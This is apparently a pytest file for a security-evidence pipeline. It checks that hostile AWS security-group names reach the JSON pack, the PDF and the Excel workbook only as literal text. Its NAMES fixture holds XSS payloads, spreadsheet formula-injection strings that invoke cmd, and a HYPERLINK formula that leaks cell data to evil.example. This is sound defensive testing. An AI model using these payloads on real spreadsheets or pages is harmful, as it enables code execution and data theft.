"""Hostile names and tags, from the AWS answer through the pipeline into pack.json, the PDF and the workbook:
kept exactly in the evidence, shown as literal text in the reports, never interpreted as markup or formulas."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from botocore.stub import Stubber
from hardening_support import ACCOUNT, REGION, collect_pack, offline_factory, snapshot
from openpyxl import load_workbook
from pypdf import PdfReader

from evidence.render.text import printable

CHECK = "ec2.sg_no_admin_ports_open_to_world"
NAMES = {
    "script": "<script>alert('pwned')</script>",
    "markup": '<img src=x onerror="alert(1)"><b>bold</b>&amp;',
    "formula-eq": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unicode": "Ünïcødé-ελληνικά-данные-日本語-🔥",
    "control": "bad\x07name\x1b[31m\u202eevil\x00end",
}
LONG_ARN = f"arn:aws:ec2:{REGION}:{ACCOUNT}:security-group/sg-" + "0123456789abcdef" * 128
FORMULA_ARN = '=cmd|"/C calc"!A0'
OPEN_SSH = [{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]


def _group(n: int, name: str) -> dict[str, Any]:
    group: dict[str, Any] = {"GroupId": f"sg-{n:08d}", "GroupName": name, "OwnerId": ACCOUNT, "VpcId": "vpc-1",
                             "Description": name, "IpPermissions": OPEN_SSH, "IpPermissionsEgress": [],
                             "Tags": [{"Key": name, "Value": name}]}
    if n == 0:
        group["SecurityGroupArn"] = LONG_ARN
    if n == 1:
        group["SecurityGroupArn"] = FORMULA_ARN
    return group


@pytest.fixture(scope="module")
def hostile_pack(tmp_path_factory: pytest.TempPathFactory) -> Path:
    dest = tmp_path_factory.mktemp("hostile") / "pack"
    factory = offline_factory()
    with Stubber(factory.client("ec2", REGION)) as stub:
        stub.add_response("describe_security_groups",
                          {"SecurityGroups": [_group(n, name) for n, name in enumerate(NAMES.values())]})
        collect_pack(dest, factory, ["ec2.security_groups"], {"NET-1": [CHECK]}, render=True)
    return dest


def test_evidence_and_pack_json_keep_the_exact_text(hostile_pack: Path) -> None:
    groups = snapshot(hostile_pack, "ec2.security_groups").data
    assert [g["GroupName"] for g in groups] == list(NAMES.values())
    assert [g["Tags"] for g in groups] == [[{"Key": n, "Value": n}] for n in NAMES.values()]
    pack = json.loads((hostile_pack / "pack.json").read_text(encoding="utf-8"))
    findings = [f for f in pack["findings"] if f["check"] == CHECK]
    assert {f["status"] for f in findings} == {"fail"}
    assert {f["resource"] for f in findings} >= {LONG_ARN, FORMULA_ARN}
    for name in NAMES.values():
        assert any(f"Security group {name} (" in f["reason"] for f in findings), name


def _pdf_text(path: Path) -> str:
    # pypdf reads some of the bundled fonts' runs as UTF-16 and leaves a NUL beside each character
    return "\n".join(page.extract_text() or "" for page in PdfReader(path).pages).replace("\x00", "")


def test_pdf_shows_literal_text_and_runs_nothing(hostile_pack: Path) -> None:
    pdf = hostile_pack / "hardening.pdf"
    raw = pdf.read_bytes()
    assert b"/JavaScript" not in raw and b"/JS " not in raw and b"/Launch" not in raw
    text = _pdf_text(pdf)
    flat = re.sub(r"\s+", "", text)
    # The PDF lists a check's first five failing resources and points to the workbook for the rest
    # (which holds them all: see the workbook test); those it lists are shown literally, tags and all.
    shown = [label for label, name in NAMES.items() if re.sub(r"\s+", "", printable(name)) in flat]
    assert len(shown) == 5, shown
    assert "sheet Findings" in text
    assert "\x07" not in text and "\u202e" not in text


def test_workbook_holds_strings_never_formulas(hostile_pack: Path) -> None:
    wb = load_workbook(hostile_pack / "hardening.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [str(c.value) for c in cells]
    for label in ("formula-eq", "formula-plus", "formula-minus", "formula-at"):
        holding = [c for c in cells if isinstance(c.value, str) and NAMES[label] in c.value]
        assert holding and all(c.data_type == "s" for c in holding), label
    starting = [c for c in cells if c.value == FORMULA_ARN]
    assert starting and all(c.data_type == "s" and c.quotePrefix for c in starting)
    assert LONG_ARN in values
    assert any(NAMES["unicode"] in v for v in values) and any(NAMES["script"] in v for v in values)
    assert any(printable(NAMES["control"]) in v for v in values)
    assert not [v for v in values if re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202e]", v)]
